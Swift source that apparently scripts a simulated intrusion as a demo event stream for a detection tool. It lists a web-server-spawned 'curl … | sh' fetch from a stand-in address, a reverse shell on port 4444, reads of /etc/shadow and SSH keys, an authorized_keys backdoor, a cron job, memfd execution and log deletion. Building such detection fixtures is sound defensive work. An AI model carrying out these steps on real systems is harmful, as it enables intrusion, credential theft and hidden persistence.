import FalcodCore
public import FalcodSources

/// The sample that is shown to a newcomer: an intruder comes in through a web server, looks around, takes what is of
/// value, and stays.
public enum BreakIn {
    public static func scene() throws -> ScriptedSource {
        var scene = Scene(daemons: ["sshd", "nginx"])
        let sshd: Int64 = 100, nginx: Int64 = 101

        // An ordinary morning: someone logs in and looks at a file.
        try scene.run("/bin/bash", ["-l"], pid: 300, parent: sshd, uid: 1000)
        try scene.run("/usr/bin/cat", ["/etc/hostname"], pid: 301, parent: 300, uid: 1000)
        let hostname = try scene.open("/etc/hostname", by: 301)
        try scene.read("scene\n", from: hostname, by: 301)
        try scene.exit(301)

        // The hole: the web server runs a command, which fetches a script and hands it to a shell.
        try scene.run("/bin/sh", ["-c", "curl -s http://203.0.113.9/a.sh | sh"], pid: 400, parent: nginx, uid: 33)
        try scene.run("/usr/bin/curl", ["-s", "http://203.0.113.9/a.sh"], pid: 401, parent: 400, uid: 33)
        let download = try scene.connect(to: "203.0.113.9", 80, by: 401)
        try scene.read("HTTP/1.1 200 OK\r\n", from: download, by: 401)
        try scene.exit(401)

        // The shell calls back, with its input and output on the socket.
        try scene.fork(parent: 400, child: 402)
        let callback = try scene.connect(to: "203.0.113.9", 4444, by: 402)
        for target: Int64 in 0...2 { try scene.duplicate(callback, onto: target, by: 402) }
        try scene.run("/bin/bash", ["-i"], pid: 403, parent: 402)

        // Root by now: the spoils.
        try scene.run("/usr/bin/cat", ["/etc/shadow"], pid: 404, parent: 403)
        let shadow = try scene.open("/etc/shadow", by: 404)
        try scene.read("root:$6$…", from: shadow, by: 404)
        try scene.exit(404)
        try scene.run("/usr/bin/tar", ["cz", "/root/.ssh"], pid: 405, parent: 403)
        try scene.open("/root/.ssh/id_ed25519", by: 405)
        try scene.exit(405)

        // Staying: a key, a job, a tool in memory, and the traces removed.
        let keys = try scene.open("/root/.ssh/authorized_keys", 2, by: 403)
        try scene.write("ssh-ed25519 AAAA… intruder\n", to: keys, by: 403)
        try scene.close(keys, by: 403)
        try scene.open("/etc/cron.d/sysstat2", 2, by: 403)
        try scene.run("/memfd:x (deleted)", [], pid: 406, parent: 403, executableFlags: Flag.ExecveFlags.EXE_FROM_MEMFD, ownName: "3")
        try scene.unlink("/var/log/auth.log", by: 403)
        try scene.exit(403)
        return scene.source
    }
}
